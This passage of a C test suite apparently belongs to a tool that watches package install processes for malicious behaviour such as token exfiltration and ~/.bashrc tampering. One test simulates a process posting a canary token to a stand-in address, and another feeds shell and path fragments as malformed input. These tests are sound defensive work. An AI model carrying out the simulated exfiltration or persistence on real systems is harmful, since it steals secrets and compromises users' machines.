    assert_int_equal(f->process_number, 1);
    assert_non_null(strstr(f->process, "sh -c x \\u{1b}[31m (process 1)"));
    assert_true(f->time > 0);
    assert_non_null(strstr(f->message, "changes ~/.bashrc, which every shell would run or obey later"));
}

static void
a_canary_in_what_a_process_says_is_a_proof(void **state SP_UNUSED)
{
    char text[512];
    for (int loopback = 0; loopback < 2; loopback++) {
        sp_autoverdict struct sp_verdict verdict = { 0 };
        const struct sp_finding *finding;
        snprintf(text, sizeof(text), EVIL "a said %s 443 POST / token=%s\n",
                 loopback ? "127.83.80.1" : "192.0.2.1", scene_decoys.items[0].canary);
        scene_play(text, NULL, &verdict);
        assert_int_equal(most_of(&verdict, "run/canary-sent", &finding), loopback ? NOTHING : BLOCK);
    }
}

static void
every_rule_has_its_section_in_the_document(void **state SP_UNUSED)
{
    const char *docs = getenv("SALLYPORT_DOCS_DIR");
    char path[512], line[4096], page[128];
    for (size_t i = 0; i <= sp_rule_count; i++) {
        const struct sp_rule *rule = i < sp_rule_count ? sp_rules[i] : &sp_rule_behaviour_model;
        snprintf(path, sizeof(path), "%s/rules.md", docs ? docs : "docs");
        sp_autofclose FILE *file = fopen(path, "r");
        assert_non_null(file);
        bool found = false;
        while (fgets(line, sizeof(line), file)) {
            size_t length = strcspn(line, "\n");
            found |= length > 4 && !strncmp(line, "### ", 4) && length - 4 == strlen(rule->id) &&
                     !strncmp(line + 4, rule->id, length - 4);
        }
        if (!found)
            fail_msg("docs/rules.md: no section %s", rule->id);
        snprintf(page, sizeof(page), "docs/rules.md#run%s", rule->id + 4);
        if (!rule->page || strcmp(rule->page, page))
            fail_msg("%s: its page is %s", rule->id, rule->page ? rule->page : "none");
    }
}

/* Not a measurement that fails: it prints what bench reports need. */
static void
most_reads_are_passed_over(void **state SP_UNUSED)
{
    struct sp_behaviour *behaviour;
    struct sp_error err;
    assert_int_equal(
        sp_behaviour_new(&behaviour, &(struct sp_behaviour_options){ .home = "/home/user" }, &err), 0);
    const struct sp_event event = { SP_EVENT_OPEN, SP_PHASE_INSTALL, .process = 7,
                                    .value = O_RDONLY | O_CLOEXEC,
                                    .subject = "/home/user/app/node_modules/left-pad/index.js" };
    struct timespec from, to;
    clock_gettime(CLOCK_MONOTONIC, &from);
    for (int i = 0; i < 1000000; i++)
        assert_int_equal(sp_behaviour_take(behaviour, &event), SP_SEVERITY_NONE);
    clock_gettime(CLOCK_MONOTONIC, &to);
    print_message("one open for reading: %.0f ns\n",
                  ((double)(to.tv_sec - from.tv_sec) * 1e9 + (double)(to.tv_nsec - from.tv_nsec)) / 1e6);
    sp_autoverdict struct sp_verdict verdict = { 0 };
    assert_int_equal(sp_behaviour_findings(behaviour, &verdict, &err), 0);
    assert_int_equal(verdict.count, 0);
    sp_behaviour_free(behaviour);
}

static void
what_is_kept_is_bounded(void **state SP_UNUSED)
{
    struct sp_behaviour *behaviour;
    struct sp_error err;
    sp_autoverdict struct sp_verdict verdict = { 0 };
    assert_int_equal(
        sp_behaviour_new(&behaviour, &(struct sp_behaviour_options){ .home = "/home/user" }, &err), 0);
    char path[64];
    for (uint32_t i = 0; i < 300000; i++) {
        snprintf(path, sizeof(path), "/home/user/app/%u/%u", i % 977, i);
        sp_behaviour_take(behaviour,
                          &(struct sp_event){ SP_EVENT_OPEN, SP_PHASE_INSTALL, .process = 1 + i % 999,
                                              .subject = path, .value = O_WRONLY | O_CREAT });
    }
    sp_behaviour_take(behaviour,
                      &(struct sp_event){ SP_EVENT_FORK, SP_PHASE_INSTALL, .process = UINT32_MAX });
    assert_int_equal(sp_behaviour_findings(behaviour, &verdict, &err), 0);
    sp_behaviour_free(behaviour);
    assert_int_equal(verdict.unseen_count, 2);
    assert_non_null(strstr(verdict.unseen[0], "files that packages wrote, beyond what is kept"));
    assert_non_null(strstr(verdict.unseen[1], "acts of processes beyond what is kept"));
    assert_int_equal(sp_verdict_outcome(&verdict), SP_OUTCOME_INCONCLUSIVE);
}

static void
events_of_any_form_are_survived(void **state SP_UNUSED)
{
    static const char *const strings[] = { NULL,
                                           "",
                                           "/",
                                           "//",
                                           "/proc/",
                                           "/node_modules/",
                                           "/x/node_modules/@",
                                           "sh\x1f-c\x1f",
                                           "\x1f\x1f",
                                           "env\x1f-u",
                                           "tar\x1f-czf\x1f",
                                           "/tmp/",
                                           "/x/site-packages/a/b.py",
                                           "pkg:npm/",
                                           "../../.." };
    struct sp_error err;
    for (int kind = 0; kind <= SP_EVENT_KIND_END; kind++) {
        struct sp_behaviour *behaviour;
        sp_autoverdict struct sp_verdict verdict = { 0 };
        assert_int_equal(
            sp_behaviour_new(&behaviour, &(struct sp_behaviour_options){ .home = "/home/user/" }, &err), 0);
        for (size_t s = 0; s < SP_COUNT(strings); s++)
            for (size_t d = 0; d < SP_COUNT(strings); d++)
                for (int64_t value = -1; value < 16; value++)
                    sp_behaviour_take(
                        behaviour,
                        &(struct sp_event){ (enum sp_event_kind)kind, (enum sp_phase)(d % 5),
                                            .process = (uint32_t)(s + d) % 9, .parent = (uint32_t)s % 9,
                                            .value = value, .bytes = s % 2, .package = strings[d],
                                            .subject = strings[s], .detail = strings[d],
                                            .directory = strings[(s + d) % SP_COUNT(strings)] });
        assert_int_equal(sp_behaviour_findings(behaviour, &verdict, &err), 0);
        for (size_t i = 0; i < verdict.count; i++)
            if (!verdict.findings[i].message || !*verdict.findings[i].message)
                fail_msg("%s: says nothing", verdict.findings[i].rule);
        sp_behaviour_free(behaviour);
    }
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(acts_are_judged_by_what_came_before),
        cmocka_unit_test(every_rule_has_a_case_at_its_severity_and_one_below),
        cmocka_unit_test(a_change_is_told_once),
        cmocka_unit_test(allowed_writes_are_no_findings),
        cmocka_unit_test(a_finding_says_who_when_and_what),
        cmocka_unit_test(a_canary_in_what_a_process_says_is_a_proof),
        cmocka_unit_test(every_rule_has_its_section_in_the_document),
        cmocka_unit_test(most_reads_are_passed_over),
        cmocka_unit_test(what_is_kept_is_bounded),
        cmocka_unit_test(events_of_any_form_are_survived),
    };
    return cmocka_run_group_tests(tests, scene_begin_all, scene_end_all);
}
